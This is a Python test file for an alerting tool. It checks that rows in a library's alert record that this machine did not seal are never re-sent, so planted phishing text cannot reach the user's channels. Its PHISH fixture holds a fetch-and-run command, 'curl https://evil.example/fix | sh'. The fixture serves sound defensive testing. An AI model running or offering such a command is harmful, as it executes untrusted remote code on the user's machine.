"""An owed event's text in the record of alerts (``.oo/alerts-sent.jsonl``) is sent again only when
this machine sealed that row. The record lives in the library: one from elsewhere could carry a
row of its author's ("run this command") that the next run sent to the user's own channels as if
oo had raised it."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from oo_nb.agent.types import LibraryUpdate
from oo_nb.alerts.deliver import alert_after_update
from oo_nb.alerts.owed_seal import NO_SEAL, WRONG_SEAL
from oo_nb.cli.main import main
from oo_nb.store.seal import seal
from tests.support.alert_receivers import webhook_receiver
from tests.support.alert_settings import write_alerts
from tests.support.watched import watched_library

PHISH = "run `curl https://evil.example/fix | sh` to repair your library"
DOWN = {"type": "webhook", "name": "team", "url": "http://127.0.0.1:9/down"}
Row = dict[str, Any]


@pytest.fixture
def lib(tmp_path: Path) -> Path:
    watched_library(tmp_path / "lib")
    return tmp_path / "lib"


def _owed_row(lib: Path) -> Row:
    """The row a run writes for a failure the only channel (down) did not take."""
    failed = LibraryUpdate(failures={lib / "lighthouse.o-o.html": "the model declined"})
    write_alerts(lib, DOWN, events=["failed"])
    assert alert_after_update(lib, failed).errors
    rows: list[Row] = [json.loads(line) for line in _sent(lib).read_text().splitlines()]
    assert len(rows) == 1 and "event" in rows[0] and "seal" in rows[0]
    return rows[0]


def _sent(lib: Path) -> Path:
    return lib / ".oo" / "alerts-sent.jsonl"


def _phished(row: Row) -> Row:
    return {**row, "event": {**row["event"], "title": PHISH}}


def _unsealed(row: Row) -> Row:
    return {k: v for k, v in _phished(row).items() if k != "seal"}


def _wrong_seal(row: Row) -> Row:
    return {**_phished(row), "seal": "f" * 64}


def _sealed_elsewhere(row: Row, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Row:
    """Sealed by oo on its author's machine: a key that is not this one's."""
    with monkeypatch.context() as there:
        there.setenv("OO_DATA_DIR", str(tmp_path / "authors-machine"))
        planted = _unsealed(row)
        return {**planted, "seal": seal(planted)}


PLANTED: dict[str, tuple[Callable[..., Row], str]] = {
    "no seal": (_unsealed, NO_SEAL),
    "a wrong seal": (_wrong_seal, WRONG_SEAL),
    "sealed elsewhere": (_sealed_elsewhere, WRONG_SEAL),
    "its text changed": (_phished, WRONG_SEAL),  # the seal this machine made, over other text
}


@pytest.mark.parametrize("how", PLANTED)
def test_an_owed_row_this_machine_did_not_seal_is_never_sent(
    how: str,
    lib: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    plant, why = PLANTED[how]
    row = _owed_row(lib)
    args = (monkeypatch, tmp_path) if plant is _sealed_elsewhere else ()
    _sent(lib).write_text(json.dumps(plant(row, *args)) + "\n")
    with webhook_receiver() as team:
        write_alerts(lib, {**DOWN, "url": team.url}, events=["failed"])
        assert main(["alerts", str(lib), "--show"]) == 0
        out = capsys.readouterr().out
        assert "0 event(s) not sent yet" in out and PHISH not in out
        said = (
            "ignored 1 owed event(s) of .oo/alerts-sent.jsonl not sealed by oo on this "
            f"machine, never sent: 1 {why}"
        )
        assert [line for line in out.splitlines() if "ignored" in line] == [f"  {said}"]
        report = alert_after_update(lib)
        assert not report.new and not report.errors and not team.bodies
        assert said in report.lines()  # what update-all prints of its alerts says it too
        assert main(["alerts", str(lib)]) == 0
        assert said in capsys.readouterr().out.splitlines()
        assert not team.bodies


def test_a_planted_row_beside_a_genuine_one_leaves_the_genuine_one_sent(
    lib: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A planted row of the same event (its key) with other text and no seal changes nothing:
    the genuine text goes, once; --show counts the rows of two other planted events."""
    row = _owed_row(lib)
    others = [{**_unsealed(row), "key": f"{row['key']}-{n}"} for n in (1, 2)]
    with _sent(lib).open("a") as record:
        for planted in (_unsealed(row), *others):
            record.write(json.dumps(planted) + "\n")
    with webhook_receiver() as team:
        write_alerts(lib, {**DOWN, "url": team.url}, events=["failed"])
        assert main(["alerts", str(lib), "--show"]) == 0
        out = capsys.readouterr().out
        assert "1 event(s) not sent yet" in out and PHISH not in out
        assert "ignored 2 owed event(s) of .oo/alerts-sent.jsonl" in out
        assert alert_after_update(lib).delivered == {"team": 1}
        assert len(team.bodies) == 1 and PHISH not in json.dumps(team.bodies)
        assert "the model declined" in team.bodies[0]["text"]
